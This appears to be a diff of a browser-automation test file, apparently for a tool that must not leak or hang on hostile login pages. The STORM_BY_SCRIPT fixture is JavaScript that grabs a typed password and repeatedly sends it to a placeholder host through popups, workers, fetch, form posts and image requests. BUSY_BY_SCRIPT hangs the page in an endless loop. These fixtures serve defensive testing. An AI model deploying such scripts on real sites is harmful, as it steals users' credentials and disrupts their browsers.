@@ -726,7 +726,7 @@ def test_a_login_page_sending_the_password_over_webrtc_sends_nothing_and_fails_n
 
 # A page that, once the password is typed, fires every channel every 150 ms (popups, workers, WebRTC,
 # form posts into new frames, images): the security tester's page held a run for more than 10 minutes.
-STORM_BY_SCRIPT = """document.addEventListener("input", () => setInterval(() => {
+STORM_BY_SCRIPT = """const storm = () => {
   const p = encodeURIComponent(document.getElementById("password").value), E = "{elsewhere}";
   try { window.open(E + "/popup?d=" + p, "_blank"); } catch (e) {}
   try { new Worker(URL.createObjectURL(new Blob(["fetch('" + E + "/worker?d=" + p + "')"]))); } catch (e) {}
@@ -739,7 +739,9 @@ STORM_BY_SCRIPT = """document.addEventListener("input", () => setInterval(() => 
     form.submit();
     document.body.append(Object.assign(document.createElement("img"), {src: E + "/img?d=" + p + "&" + i}));
   }
-}, 150), {once: true, capture: true});"""
+};
+document.addEventListener("input", () => { storm(); setInterval(storm, 150); }, {once: true, capture: true});
+document.forms[0].onsubmit = event => event.preventDefault();"""
 # A page whose script, once the password is typed, never returns: Chromium answers nothing for it.
 BUSY_BY_SCRIPT = 'document.getElementById("password").addEventListener("change", () => { for (;;) {} });'
 
